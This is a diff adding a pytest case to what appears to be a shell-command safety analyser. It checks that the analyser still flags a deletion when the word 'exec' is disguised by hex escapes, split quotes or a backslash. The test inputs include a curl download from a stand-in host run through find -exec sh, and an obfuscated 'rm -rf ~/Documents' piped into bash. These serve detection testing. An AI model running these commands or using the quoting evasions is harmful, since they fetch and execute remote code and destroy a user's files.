@@ -282,3 +282,9 @@ def test_a_file_a_runner_hands_its_command_is_judged_at_that_command(proj: Path)
     assert not ops(fetched + "find /tmp -maxdepth 0 -exec tar -xJf /tmp/n.tar.xz -C {} +", proj, "exec")
     (run,) = ops("curl -so /tmp/x.sh https://e.x/x && find . -maxdepth 0 -exec sh /tmp/x.sh {} +", proj, "exec")
     assert (run["program"], run["path"], run["flow"]) == ("sh", "/tmp/x.sh", "fetch")
+
+
+@pytest.mark.parametrize("exec_word", ["$'\\x65\\x78\\x65\\x63'", "$'exec'", "e''xec", "\\exec"])
+def test_exec_holds_a_descriptor_however_its_word_is_quoted(exec_word: str, proj: Path) -> None:
+    found = ops(f"{exec_word} 3<<<'rm -rf ~/Documents'; bash <&3", proj, "delete")
+    assert [e["path"] for e in found] == ["/home/u/Documents"]
